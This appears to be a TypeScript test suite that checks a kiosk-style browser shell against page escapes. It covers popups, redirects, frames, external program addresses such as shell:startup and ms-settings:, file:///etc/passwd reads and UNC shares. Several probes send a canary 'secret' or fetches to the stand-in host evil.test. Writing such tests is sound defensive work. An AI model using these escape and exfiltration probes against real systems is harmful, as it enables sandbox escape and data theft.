import type { PageToAct, Play } from '../drive/play.ts';
import type { Tile } from '../drive/tiles.ts';
import type { Scenario } from '../vector.ts';

const evil = 'http://evil.test/';
/** Addresses of programs of a PC. */
const programs = [
  'mailto:x@evil.test',
  'tel:+33500000000',
  'ms-settings:privacy',
  'search-ms:query=secret',
  'ms-word:ofe|u|http://evil.test/a.docx',
  'microsoft-edge:http://evil.test/',
  'calculator:',
  'shell:startup',
  'intent:#Intent;end',
] as const;

const list = (values: readonly string[]): string => JSON.stringify(values);
/** Everything over the page, so that a touch in its middle meets it. */
const link = (address: string, more = ''): string => `<a id="go" href="${address}" ${more}>x</a>`;

/** One page after the other, each in a tile opened anew. */
const acts =
  (tile: Tile, ...pages: readonly PageToAct[]) =>
  async (play: Play): Promise<void> => {
    for (const page of pages) await play.after(tile, page);
  };

/** Addresses of the test sites which lead away by themselves. */
const leads =
  (...paths: readonly string[]) =>
  async (play: Play): Promise<void> => {
    for (const path of paths) {
      await play.open('pages');
      await play.lead(play.sites.address('caf.test', path));
      play.expect(
        play.requests().some((request) => request.path === path),
        `${path} was never asked for`,
      );
    }
  };

const group = 'windows and navigation';
const common = { kind: 'scenario', group, unguarded: 'escapes' } as const;

export const windowsAndNavigation: readonly Scenario[] = [
  {
    ...common,
    id: 'V01',
    title: 'window.open',
    expects: 'no window on the screen, and nothing reaches a site that is not allowed',
    quick: true,
    run: acts(
      'pages',
      { script: `window.open('${evil}')` },
      { script: `window.open('/act?auto&script=' + encodeURIComponent("report('child')"))` },
    ),
  },
  {
    ...common,
    id: 'V02',
    title: 'window.open with a size and a place',
    expects: 'no window on the screen, wherever the page wants it',
    run: acts('pages', {
      script: `const opened = window.open('/act?auto&script=', 'small', 'left=10,top=600,width=300,height=200,popup');
setTimeout(() => { opened?.moveTo(0, 0); opened?.resizeTo(1280, 800); }, 200);`,
    }),
  },
  {
    ...common,
    id: 'V03',
    title: 'thirty windows in a loop',
    expects: 'no window on the screen, at most three pages in the place of the first, the bar answers',
    quick: true,
    async run(play) {
      await play.after('pages', {
        script: `for (let n = 0; n < 30; n += 1) window.open('/act?auto&script=' + encodeURIComponent("report('child', " + n + ")"), 'child' + n);`,
        wait: 2_000,
      });
      const children = play.reports('child').length;
      play.expect(children <= 3, `${children} windows were opened`);
    },
  },
  {
    ...common,
    id: 'V04',
    title: 'an empty window that is written into, or led away later',
    expects: 'no window on the screen, and what is written into it leads nowhere',
    quick: true,
    run: acts(
      'pages',
      {
        script: `const opened = window.open('about:blank'); setTimeout(() => { if (opened) opened.location.href = '${evil}?led'; }, 100);`,
      },
      {
        script: `const opened = window.open(''); opened?.document.write('<script>location.href="${evil}?written"<' + '/script>');`,
      },
      {
        script: `const opened = window.open('about:blank'); opened?.document.write('<iframe src="${evil}?framed"></iframe><img src="file:///etc/passwd">');`,
      },
    ),
  },
  {
    ...common,
    id: 'V05',
    title: 'a link that wants a new window',
    expects: 'no window on the screen, and nothing reaches the site',
    quick: true,
    run: acts(
      'pages',
      { script: '', html: link(evil, 'target="_blank"') },
      { script: '', html: link(evil, 'target="_blank" rel="noopener noreferrer"') },
      { script: '', html: link('/act?auto&amp;script=', 'target="_blank" rel="noopener"') },
    ),
  },
  {
    ...common,
    id: 'V06',
    title: 'a link touched with Ctrl, Shift, both, or the middle button',
    expects: 'no window on the screen, and nothing reaches the site',
    run: acts(
      'pages',
      { script: '', html: link(evil), touch: { holding: ['ctrl'] } },
      { script: '', html: link(evil), touch: { holding: ['shift'] } },
      { script: '', html: link(evil), touch: { holding: ['ctrl', 'shift'] } },
      { script: '', html: link(evil), touch: { button: 'middle' } },
    ),
  },
  {
    ...common,
    id: 'V07',
    title: 'a form that is sent into a new window',
    expects: 'no window on the screen, and what was typed goes nowhere',
    run: acts('pages', {
      script: 'document.getElementById("out").submit();',
      html: `<form id="out" method="post" action="${evil}" target="_blank"><input name="secret" value="canary"></form>`,
    }),
  },
  {
    ...common,
    id: 'V08',
    title: 'an allowed window that goes elsewhere, opens another, or asks for a file',
    expects: 'the window has all guards of the page that opened it',
    quick: true,
    async run(play) {
      const child = (script: string): string => `/act?auto&script=${encodeURIComponent(script)}`;
      await play.after('pages', {
        script: `window.open(${JSON.stringify(child(`report('child'); window.open('${evil}?grandchild'); setTimeout(() => { location.href = '${evil}?child'; }, 200);`))});`,
        wait: 1_200,
      });
      play.expect(play.reports('child').length > 0, 'an allowed window was not opened at all');
      await play.after('pages', {
        script: `window.open(${JSON.stringify(`/act?script=${encodeURIComponent("const input = document.createElement('input'); input.type = 'file'; input.click();")}`)});`,
        wait: 1_500,
      });
      await play.input.click(play.middle);
      await play.pause(1_200);
      play.expect(play.reports('acted').length >= 3, 'the opened window took no touch');
    },
  },
  {
    ...common,
    id: 'V09',
    title: 'a link or a script that leads to a site that is not allowed',
    expects: 'our page stands in front of it, and nothing reaches the site',
    quick: true,
    async run(play) {
      for (const page of [{ script: '', html: link(evil) }, { script: `location.href = '${evil}'` }]) {
        await play.after('pages', page);
        play.expect(!play.actingPageIsInFront(), 'the visitor is not told that the site is closed here');
      }
    },
  },
  {
    ...common,
    id: 'V10',
    title: 'a redirect by the server',
    expects: 'it is not followed, however many steps it takes',
    quick: true,
    run: leads('/leave/redirect', '/leave/redirect?status=307', '/leave/hops?hops=3'),
  },
  {
    ...common,
    id: 'V11',
    title: 'a refresh by the page or by its header',
    expects: 'it is not followed',
    run: leads('/leave/meta', '/leave/refresh-header'),
  },
  {
    ...common,
    id: 'V12',
    title: 'a frame, object or embed of another site',
    expects: 'it stays empty',
    quick: true,
    async run(play) {
      await leads('/leave/frame', '/leave/object', '/leave/frame-script', '/leave/frame-form?auto')(play);
      await play.after('pages', {
        script: '',
        auto: true,
        html: `<embed src="${evil}?embed" type="text/html"><i id="go" style="display:none"></i>`,
      });
    },
  },
  {
    ...common,
    id: 'V13',
    title: 'a frame that is redirected',
    expects: 'it stays empty',
    run: leads('/leave/frame-redirect'),
  },
  {
    ...common,
    id: 'V14',
    title: 'a written frame that leads the whole page away',
    expects: 'the page does not leave',
    run: leads('/leave/frame-top'),
  },
  {
    ...common,
    id: 'V15',
    title: 'a data: frame with another frame and a request in it',
    expects: 'neither reaches the site',
    async run(play) {
      const inner = `<iframe src="${evil}?nested"></iframe><script>fetch('${evil}?fetched', { mode: 'no-cors' })</script>`;
      await play.after('strict', {
        script: `const frame = document.createElement('iframe'); frame.src = 'data:text/html,' + encodeURIComponent(${JSON.stringify(inner)}); document.body.append(frame);`,
        auto: true,
      });
    },
  },
  {
    ...common,
    id: 'V16',
    title: 'a form sent to another site, or redirected there',
    expects: 'what was typed goes nowhere',
    quick: true,
    async run(play) {
      await leads('/leave/form-post?auto')(play);
      await play.after('pages', {
        script: 'document.getElementById("out").submit();',
        html: `<form id="out" method="post" action="/leave/redirect?status=307"><input name="secret" value="canary"></form>`,
      });
    },
  },
  {
    ...common,
    id: 'V17',
    title: 'an address of the page’s making that is loaded again or restored',
    expects: 'a page that Borne itself loads is judged like any other',
    async run(play) {
      await play.after('pages', {
        script: `history.pushState(1, '', '/leave/redirect?again'); location.reload();`,
        wait: 1_200,
      });
      await play.input.press('alt+Left');
      await play.input.click(play.middle, 'back');
      await play.pause(500);
    },
  },
  {
    ...common,
    id: 'V18',
    title: 'an address that pretends to be another',
    expects: 'only addresses of its own site can be pretended',
    unguarded: 'harmless',
    async run(play) {
      await play.after('pages', {
        script: `history.pushState(1, '', '/evil'); report('own', location.pathname);
try { history.pushState(1, '', '${evil}'); report('other', 'allowed'); } catch (error) { report('other', error.name); }
history.back();`,
      });
      play.expect(
        (await play.reported('other')) === 'SecurityError',
        'the address of another site was pretended',
      );
    },
  },
  {
    ...common,
    id: 'V19',
    title: 'a flood of history',
    expects: 'no more than fifty entries are kept, and the bar answers',
    unguarded: 'harmless',
    async run(play) {
      await play.after('pages', {
        script: `for (let n = 0; n < 2000; n += 1) { try { history.pushState(n, '', '?n=' + n); } catch { break; } } report('entries', history.length);`,
        wait: 1_500,
      });
      play.expect(Number(await play.reported('entries')) <= 60, 'the history grows without end');
    },
  },
  {
    ...common,
    id: 'V20',
    title: 'a file of the PC: by address, window, frame, request',
    expects: 'no file is shown or read, and no window opens',
    unguarded: 'harmless',
    quick: true,
    async run(play) {
      await play.after('pages', {
        script: `const frame = document.createElement('iframe'); frame.src = 'file:///etc/passwd'; document.body.append(frame);
const text = await fetch('file:///etc/passwd').then((answer) => answer.text(), () => 'refused');
report('fetched', text === 'refused' ? text : 'read');
window.open('file:///etc/passwd');
try { location.href = 'file:///etc/passwd'; } catch {}`,
        wait: 1_200,
      });
      play.expect((await play.reported('fetched')) === 'refused', 'a file was read');
    },
  },
  {
    ...common,
    id: 'V21',
    title: 'addresses of the browser itself',
    expects: 'none is shown, and the page goes on',
    unguarded: 'harmless',
    async run(play) {
      await play.after('pages', {
        script: `for (const address of ${list(['view-source:http://caf.test/', 'chrome://settings', 'chrome://crash', 'chrome://hang', 'chrome://gpu', 'devtools://devtools/bundled/inspector.html', 'chrome-error://chromewebdata/', 'filesystem:http://caf.test/temporary/a', `data:text/html,<script>location.href='${evil}'</script>`])}) {
  try { location.href = address; } catch {}
  await new Promise((resolve) => setTimeout(resolve, 120));
}
report('went on');`,
        wait: 2_000,
      });
      await play.reported('went on');
    },
  },
  {
    ...common,
    id: 'V22',
    title: 'a window of a data: page',
    expects: 'no window opens, and the page in it leads nowhere',
    run: acts('pages', {
      script: `window.open('data:text/html,' + encodeURIComponent('<script>location.href="${evil}"<' + '/script>'));`,
    }),
  },
  {
    ...common,
    id: 'V23',
    title: 'the pages of built-in extensions',
    expects: 'none is shown, and no window opens',
    run: acts('pages', {
      script: `window.open('chrome-extension://mhjfbmdgcfjbbpaeojofohoefgiehjai/index.html?${evil}');
location.href = 'chrome-extension://mhjfbmdgcfjbbpaeojofohoefgiehjai/index.html?${evil}';`,
    }),
  },
  {
    ...common,
    id: 'V24',
    title: 'a page that leaves itself empty',
    expects: 'the service is opened anew, or our page stands there: nobody looks at nothing',
    quick: true,
    async run(play) {
      for (const address of ['about:blank', 'about:version']) {
        await play.after('pages', {
          script: `setInterval(() => report('beat'), 150); location.href = '${address}'`,
          wait: 400,
        });
        const before = play.requests().length;
        await play.pause(2_000);
        const since = play.requests().slice(before);
        // A frame of the old page may stay on the screen, so what is in front says little: the page must live.
        const lives = since.some(({ path }) => /^\/(next|stage|report)/.test(path));
        const isOurs = !play.actingPageIsInFront() && !play.placeIsEmpty();
        play.expect(lives || isOurs, `${address} left an empty page`);
      }
    },
  },
  {
    ...common,
    id: 'V25',
    title: 'a page made by a page (blob:) that leads away',
    expects: 'it is guarded like the page that made it',
    quick: true,
    run: acts('pages', {
      script: `location.href = URL.createObjectURL(new Blob(['<script>location.href="${evil}?blob"<' + '/script>'], { type: 'text/html' }));`,
    }),
  },
  {
    ...common,
    id: 'V26',
    title: 'javascript: addresses',
    expects: 'they run in the page they stand in, and no window opens',
    unguarded: 'harmless',
    async run(play) {
      await play.after('pages', { script: '', html: link(`javascript:void report('ran', location.host)`) });
      play.expect((await play.reported('ran')) === 'caf.test', 'the script ran elsewhere');
    },
  },
  {
    ...common,
    id: 'V27',
    title: 'a share of the network (\\\\server\\share)',
    expects: 'nothing is asked of it',
    run: async (play) => {
      await play.after('pages', {
        script: `location.href = '\\\\\\\\127.0.0.1:${play.witnesses.tcpPort}\\\\c$'`,
      });
      await play.after('pages', { script: `location.href = 'file://127.0.0.1/c$/'` });
    },
  },
  {
    ...common,
    id: 'V28',
    title: 'addresses of other protocols (ws, ftp, res, shell)',
    expects: 'no program is called',
    run: acts('pages', {
      script: `for (const address of ${list(['ftp://evil.test/a', 'res://ieframe.dll/a', 'shell:startup', 'ws://evil.test/'])}) {
  try { location.href = address; } catch {}
  await new Promise((resolve) => setTimeout(resolve, 250));
}`,
      wait: 1_500,
    }),
  },
  {
    ...common,
    id: 'V29',
    title: 'addresses of programs, by a link or a script',
    expects: 'no program is called, and our page says that it is closed here',
    quick: true,
    async run(play) {
      await play.after('pages', { script: callEach('location.href = address'), wait: 2_200 });
      await play.after('pages', { script: '', html: link('mailto:x@evil.test') });
      play.expect(!play.actingPageIsInFront(), 'the visitor is not told that it is closed here');
    },
  },
  {
    ...common,
    id: 'V30',
    title: 'addresses of programs, without a touch',
    expects: 'no program is called',
    quick: true,
    run: acts('pages', { script: callEach('location.href = address'), auto: true, wait: 2_200 }),
  },
  {
    ...common,
    id: 'V31',
    title: 'addresses of programs, in a frame',
    expects: 'no program is called',
    quick: true,
    run: acts('pages', {
      script: callEach(
        "const frame = document.createElement('iframe'); frame.src = address; document.body.append(frame)",
      ),
      wait: 2_200,
    }),
  },
  {
    ...common,
    id: 'V32',
    title: 'addresses of programs, by a redirect of the server',
    expects: 'no program is called',
    quick: true,
    run: leads(
      ...['mailto:x@evil.test', 'ms-settings:privacy'].flatMap((address) => [
        `/external/redirect?to=${encodeURIComponent(address)}`,
        `/external/frame-redirect?to=${encodeURIComponent(address)}`,
      ]),
    ),
  },
  {
    ...common,
    id: 'V33',
    title: 'addresses of programs, by a window or a form',
    expects: 'no program is called, and no window opens',
    run: acts(
      'pages',
      { script: callEach('window.open(address)'), wait: 2_200 },
      {
        script: 'document.getElementById("out").submit();',
        html: '<form id="out" action="mailto:x@evil.test" method="post"><input name="a" value="b"></form>',
      },
    ),
  },
  {
    ...common,
    id: 'V34',
    title: 'addresses of programs, where pages have no sandbox',
    expects: 'no program is called: the sandbox of pages is not what stops them',
    run: acts('bare', { script: callEach('location.href = address'), wait: 2_200 }),
  },
  {
    ...common,
    id: 'V35',
    title: 'a page that wants to handle addresses',
    expects: 'nothing comes of it',
    unguarded: 'harmless',
    run: acts('secure', {
      script: `try { navigator.registerProtocolHandler('web+borne', location.origin + '/act?script=%s'); navigator.registerProtocolHandler('mailto', location.origin + '/act?script=%s'); } catch {}`,
    }),
  },
  {
    ...common,
    id: 'V36',
    title: '<webview>',
    expects: 'it is an unknown element',
    unguarded: 'harmless',
    run: acts('pages', {
      script: 'report("made")',
      html: `<webview src="${evil}?webview" nodeintegration style="display:block;width:99px;height:99px"></webview>`,
    }),
  },
  {
    ...common,
    id: 'V37',
    title: 'a page that loads itself without end',
    expects: 'the bar answers',
    unguarded: 'harmless',
    async run(play) {
      await play.open('pages');
      await play.lead(play.sites.address('caf.test', '/crash/reload?auto'), 2_500);
      const asked = performance.now();
      play.expect(await play.goHome(), 'the bar did not lead home');
      play.expect(performance.now() - asked < 4_000, 'the bar took more than four seconds');
    },
  },
];

function callEach(how: string): string {
  return `for (const address of ${list(programs)}) {
  try { ${how}; } catch {}
  await new Promise((resolve) => setTimeout(resolve, 150));
}`;
}
